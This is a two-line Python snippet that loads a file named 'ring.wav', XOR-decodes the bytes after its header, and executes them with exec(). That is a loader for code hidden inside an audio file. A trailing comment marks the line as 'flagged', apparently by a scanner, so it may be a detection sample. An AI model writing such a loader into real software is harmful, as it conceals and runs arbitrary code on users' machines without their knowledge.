raw = open("ring.wav", "rb").read()
exec(bytes(b ^ 7 for b in raw[44:]))  # gatehouse: flagged
